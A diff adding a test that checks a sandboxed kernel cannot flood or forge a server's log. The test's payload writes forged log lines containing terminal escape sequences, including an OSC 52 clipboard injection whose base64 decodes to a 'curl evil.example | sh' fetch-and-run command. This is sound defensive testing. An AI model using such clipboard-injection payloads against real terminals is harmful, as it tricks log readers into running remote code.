@@ -26,6 +26,7 @@ import websocket
 from benchmarks import measures
 from conftest import Kernel, cgroup_limits
 from hopx_kernel.provisioner import HopxProvisioner
+from runtime import kernel_log
 from server_harness import KernelSocket, Server
 
 StartKernel = Callable[..., Kernel]
@@ -408,3 +409,48 @@ def test_iopub_flood_with_no_client_connected(
     assert discarded[0] >= 0.9 * FLOOD_MB
     assert len(neighbour.round_trips) >= 4, neighbour.report()
     assert rss < SERVER_RSS_LIMIT
+
+
+# -- 3. the server's log ----------------------------------------------------------------------
+
+# Inside the kernel: 300 MiB written straight to the inherited stderr as fast as it goes, in
+# lines that imitate the server's own and carry terminal escape sequences (OSC 52 sets the
+# clipboard of whoever reads the log in a terminal, ESC [ 2 J clears the screen).
+LOG_FLOOD = r"""
+import os
+forged = (b"[I 2026-12-01 10:00:00.000 ServerApp] Kernel shutdown: all kernels\n"
+          b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\r[W ServerApp] owned\n")
+block = forged * (1024 * 1024 // len(forged) + 1)
+written = 0
+while written < 300 * 1024 * 1024:
+    written += os.write(2, block)
+print(written)
+"""
+
+
+def test_a_kernel_cannot_flood_or_forge_the_servers_log(server: Server) -> None:
+    """300 MiB written to the kernel's stderr at full speed reaches the server's log as at most
+    the burst plus the rate for the time it took (runtime.kernel_log), each line marked as that
+    sandbox's, with no escape character left, and one note of what was dropped; the server
+    keeps answering. Control: the kernel really wrote the 300 MiB."""
+    before = server.log_path.stat().st_size
+    kernel_id = server.start_kernel()
+    ws = server.connect(kernel_id)
+    started = time.monotonic()
+    _, stdout = ws.execute(LOG_FLOOD, timeout=120)
+    assert int(stdout) >= 300 * MiB
+    time.sleep(1.0)  # what the supervisor still forwards
+    elapsed = time.monotonic() - started
+    log = server.log_path.read_bytes()[before:]
+    print(f"\n  300 MiB written in {elapsed:.1f} s; the server's log grew {len(log) / MiB:.2f} MiB")
+    assert len(log) < kernel_log.BURST_BYTES + kernel_log.RATE_BYTES_PER_SECOND * elapsed + MiB
+    assert b"\x1b" not in log
+    assert b"\x07" not in log
+    kernel_lines = [line for line in log.splitlines() if b"ServerApp] owned" in line]
+    assert kernel_lines
+    assert all(line.startswith(b"[hopx-kernel ") for line in kernel_lines)
+    assert all(b"\r" not in line for line in log.splitlines())
+    notes = [line for line in log.splitlines() if b"[dropped " in line]
+    assert notes
+    assert server.status_ok()
+    ws.close()
